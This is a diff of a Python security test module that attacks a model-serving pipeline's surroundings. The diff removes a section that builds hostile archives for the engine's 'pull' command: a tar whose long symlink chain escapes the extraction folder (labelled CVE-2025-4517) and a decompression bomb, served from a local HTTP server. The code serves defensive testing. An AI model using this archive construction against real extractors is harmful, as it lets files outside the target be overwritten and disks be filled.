@@ -1,22 +1,17 @@
-"""Attacks of hostile.py on a pipeline's surroundings: its log, files, parent process, models."""
+"""Attacks of hostile.py on a pipeline's surroundings: its log, files, parent process."""
 
 from __future__ import annotations
 
 import asyncio
 import contextlib
-import io
 import os
 import select
 import signal
 import subprocess
-import sys
-import tarfile
 import time
-from collections.abc import Iterator
-from pathlib import Path
 
 import hostile_images
-from harness import command_line, descendants, engine_command, free_port, wait_until_answered
+from harness import command_line, descendants, engine_command, free_port
 from hostile_attacker import HOLD_S, Attacker, attacks_of
 from hostile_rig import Surroundings
 
@@ -24,8 +19,6 @@ from nano_inference.store.redis.embedded import read_password
 
 ENDED_S = 1.0
 """Limit from the SIGKILL of `up` to the end of its last process."""
-
-_BOMB_BYTES = 512 << 20
 
 
 # --- the log --------------------------------------------------------------------------------------
@@ -88,86 +81,6 @@ async def killed_up(attacker: Attacker) -> None:
 def _children_of(pid: int) -> list[int]:
     """Return the stages and the gateway of an `up`."""
     return [each for each in descendants(pid) if "--with-parent" in command_line(each)]
-
-
-# --- models ---------------------------------------------------------------------------------------
-
-
-async def evil_archives(attacker: Attacker) -> None:
-    """Archives for `pull`: one with links to a file elsewhere (CVE-2025-4517), and a bomb."""
-    folder = attacker.folder / "archives"
-    folder.mkdir(exist_ok=True)
-    outside = attacker.folder / "models" / "outside"
-    outside.parent.mkdir(exist_ok=True)
-    outside.write_text("mine")
-    _write_tar(folder / "links.tar.gz", _links("../outside"))
-    _write_tar(folder / "bomb.tar.gz", [_entry("model.safetensors", size=_BOMB_BYTES)])
-    with _served(folder) as url:
-        for name in ("links", "bomb"):
-            ran = await asyncio.to_thread(_pull, f"{url}/{name}.tar.gz", outside.parent / name)
-            attacker.told[f"{name}: status {ran.returncode}"] += 1
-            if ran.returncode == 0:
-                attacker.broken.append(f"{name}.tar.gz is taken for a model")
-    if outside.read_text() != "mine":
-        attacker.broken.append("a file elsewhere is overwritten")
-
-
-def _pull(url: str, to: Path) -> subprocess.CompletedProcess[bytes]:
-    command = engine_command("pull", url, "--unverified", "--to", to)
-    return subprocess.run(command, capture_output=True, check=False)
-
-
-def _entry(
-    name: str, kind: bytes = tarfile.REGTYPE, link: str = "", size: int = 0
-) -> tarfile.TarInfo:
-    found = tarfile.TarInfo(name)
-    found.type, found.linkname, found.size = kind, link, size
-    return found
-
-
-def _links(outside: str) -> list[tarfile.TarInfo]:
-    """Return links whose path is so long that `os.path.realpath` stops resolving it."""
-    long, path, letters = "d" * 247, "", "abcdefghijklmnop"
-    entries = []
-    for letter in letters:
-        entries.append(_entry(path + long, tarfile.DIRTYPE))
-        entries.append(_entry(path + letter, tarfile.SYMTYPE, long))
-        path += f"{long}/"
-    link = "/".join(letters) + "/" + "l" * 254
-    return [
-        *entries,
-        _entry(link, tarfile.SYMTYPE, "../" * len(letters)),
-        _entry("escape", tarfile.SYMTYPE, f"{link}/../{outside}"),
-        _entry("hard", tarfile.LNKTYPE, "escape"),
-        _entry("hard", size=3),
-    ]
-
-
-class _Zeros(io.RawIOBase):
-    """A file of zeros without end."""
-
-    def read(self, size: int = -1, /) -> bytes:
-        return bytes(size)
-
-
-def _write_tar(path: Path, entries: list[tarfile.TarInfo]) -> None:
-    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
-        for each in entries:
-            tar.addfile(each, _Zeros() if each.isreg() else None)
-
-
-@contextlib.contextmanager
-def _served(folder: Path) -> Iterator[str]:
-    """Run an HTTP server with the files of a folder; yield its URL."""
-    port = free_port()
-    command = [sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1"]
-    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
-    with subprocess.Popen([*command, "--directory", str(folder)], **quiet) as process:
-        try:
-            wait_until_answered(f"http://127.0.0.1:{port}", process)
-            yield f"http://127.0.0.1:{port}"
-        finally:
-            process.kill()
 
 
 # --- Redis ----------------------------------------------------------------------------------------
